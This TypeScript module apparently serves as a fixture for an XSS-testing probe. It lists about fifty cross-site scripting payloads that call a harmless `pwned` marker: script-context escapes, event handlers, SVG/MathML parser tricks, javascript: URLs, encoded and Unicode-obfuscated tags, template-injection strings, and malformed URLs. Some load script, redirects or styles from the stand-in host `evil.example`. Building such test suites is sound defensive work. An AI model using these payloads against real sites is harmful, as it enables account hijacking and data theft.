/** An XSS attempt. All payloads call `pwned`, which the probe records. */
export interface Payload {
  id: number;
  text: string;
  /** Whether it runs without interaction when inserted as HTML into a page without a policy. */
  runsAsHtml: boolean;
}

type Attempt = string | { runs: string };

/** Attribute on every payload's elements, so that injected ones are found even where they cannot run. */
export const MARK = 'data-pwned';
export const EVIL_HOST = 'evil.example';

const call = (id: number) => `pwned(${id})`;

/** Each has a number, so that a report tells which one ran. */
const ATTEMPTS: ((id: number) => Attempt)[] = [
  // Script elements, and escapes from their context.
  (id) => `<script ${MARK}>${call(id)}</script>`,
  (id) => `<ScRiPt ${MARK} src=//${EVIL_HOST}/${id}.js></sCrIpT>`,
  (id) => `"><script ${MARK}>${call(id)}</script>`,
  (id) => `</script><script ${MARK}>${call(id)}</script>`,
  (id) => `</title><script ${MARK}>${call(id)}</script>`,
  (id) => ({ runs: `</textarea><img ${MARK} src=x onerror=${call(id)}>` }),
  (id) => ({ runs: `--><img ${MARK} src=x onerror=${call(id)}><!--` }),
  // Attributes, and escapes from them.
  (id) => ({ runs: `<img ${MARK} src=x onerror=${call(id)}>` }),
  (id) => ({ runs: `'><img ${MARK} src=x onerror='${call(id)}'>` }),
  (id) => ({ runs: `\`><img ${MARK} src=x onerror=${call(id)}>` }),
  (id) => ({ runs: `<img ${MARK} src=x onerror="&#112;wned&lpar;${id}&#x29;">` }),
  (id) => ({ runs: `<img/${MARK}/src="x"/onerror="${call(id)}">` }),
  (id) => ({ runs: `<img ${MARK} srcset="x 1x" sizes="1px" onerror=${call(id)}>` }),
  (id) => `" onmouseover=${call(id)} autofocus onfocus=${call(id)} ${MARK} x="`,
  (id) => `' style='animation:x' onanimationstart='${call(id)}' ${MARK} '`,
  (id) => ({ runs: `<input ${MARK} autofocus onfocus=${call(id)}>` }),
  // SVG and MathML, and their parsing differences.
  (id) => ({ runs: `<svg ${MARK}><svg onload=${call(id)}></svg></svg>` }),
  (id) => ({ runs: `<svg ${MARK}><animate onbegin=${call(id)} attributeName=x dur=1s></svg>` }),
  (id) => ({ runs: `<svg ${MARK}><foreignObject><img src=x onerror=${call(id)}></foreignObject></svg>` }),
  (id) =>
    `<svg ${MARK}><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=${call(id)}>#x"></use></svg>`,
  (id) => `<math ${MARK} href="javascript:${call(id)}">x</math>`,
  (id) =>
    `<math ${MARK}><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call(id)}&gt;">`,
  (id) => ({ runs: `<svg></p><style><a id="</style><img ${MARK} src=x onerror=${call(id)}>">` }),
  // Parsed differently with and without scripting.
  (id) => ({ runs: `<noscript ${MARK}><p title="</noscript><img src=x onerror=${call(id)}>">` }),
  (id) => `<template ${MARK}><img src=x onerror=${call(id)}></template>`,
  // URLs.
  (id) => `javascript:${call(id)}`,
  (id) => `<a ${MARK} href="javascript:${call(id)}">x</a>`,
  (id) => `<a ${MARK} href="jav&#x09;ascri&NewLine;pt&colon;${call(id)}">x</a>`,
  (id) => `<a ${MARK} href="\t java\nscript:${call(id)}">x</a>`,
  (id) => `<a ${MARK} href="data:text/html,<script>opener.pwned(${id})</script>" target=_blank>x</a>`,
  (id) => `<a ${MARK} href="vbscript:${call(id)}">x</a><a ${MARK} href="//${EVIL_HOST}/${id}">x</a>`,
  // Elements that load, frame, post or redirect.
  (id) => ({ runs: `<iframe ${MARK} srcdoc="<img src=x onerror=parent.${call(id)}>"></iframe>` }),
  (id) => ({ runs: `<iframe ${MARK} src="javascript:parent.${call(id)}"></iframe>` }),
  (id) => `<object ${MARK} data="javascript:${call(id)}"></object><embed ${MARK} src="//${EVIL_HOST}/${id}">`,
  (id) => `<meta ${MARK} http-equiv="refresh" content="0;url=//${EVIL_HOST}/${id}">`,
  (id) => `<base ${MARK} href="//${EVIL_HOST}/${id}/">`,
  (id) =>
    `<form ${MARK} action="javascript:${call(id)}"><button formaction="javascript:${call(id)}">x</button>`,
  (id) => `<style ${MARK}>@import "//${EVIL_HOST}/${id}.css";*{background:url(//${EVIL_HOST}/${id})}</style>`,
  (id) => `<p ${MARK} style="width:expression(${call(id)});background:url(javascript:${call(id)})">x</p>`,
  // JSON embedded in the page, and strings inside of scripts.
  (id) => `"}]}</script><!--<script ${MARK}>${call(id)}</script>`,
  (id) => `<!--<script ${MARK}>${call(id)}//`,
  (id) => `"\u2028;${call(id)};\u2029//`,
  (id) => `\\";${call(id)};//'-${call(id)}-'`,
  // Syntax of various template engines.
  (id) => `{{constructor.constructor('${call(id)}')()}} \${${call(id)}} #{${call(id)}} <%= ${call(id)} %>`,
  (id) => `{"$$typeof":"Symbol(react.element)","type":"img","props":{"src":"x","onError":"${call(id)}"}}`,
  (id) => `[x](javascript:${call(id)}) ![x](x"onerror="${call(id)}) <javascript:${call(id)}>`,
  // Letters that look, read or decode like others.
  (id) => ({ runs: `\u202E<img ${MARK} src=x onerror=${call(id)}>\u202C` }),
  (id) =>
    `\uFF1Cscript ${MARK}\uFF1E${call(id)}\uFF1C/script\uFF1E \uFE64img src=x onerror=${call(id)}\uFE65`,
  (id) => `%3Cscript%20${MARK}%3E${call(id)}%3C/script%3E &lt;img ${MARK} src=x onerror=${call(id)}&gt;`,
  (id) =>
    `<\u200Bscript ${MARK}>${call(id)}</script\u200B><img\u00A0${MARK}\u00A0src=x\u00A0onerror=${call(id)}>`,
];

export const PAYLOADS: readonly Payload[] = ATTEMPTS.map((attempt, index) => {
  const id = index + 1;
  const made = attempt(id);
  return typeof made === 'string'
    ? { id, text: made, runsAsHtml: false }
    : { id, text: made.runs, runsAsHtml: true };
});

/** URLs with invalid UTF-8: overlong `<script>`, lone continuation bytes, half surrogate pairs. */
export const BAD_ADDRESSES = [
  '/%c0%bcscript%c0%be',
  '/products?search=%e0%80%bcimg%20src=x%20onerror=pwned(900)%e0%80%be',
  '/products/%f8%a1%a1%a1%a1%3cscript%3e',
  '/%ed%a0%80%3Cscript%3Epwned(901)%3C/script%3E',
  '/%253Cscript%253Epwned(902)%253C/script%253E',
  '/brands/..%2f..%2f%3Cscript%3Epwned(903)%3C%2fscript%3E',
  `//${EVIL_HOST}/%2e%2e`,
  `/\\${EVIL_HOST}/`,
];
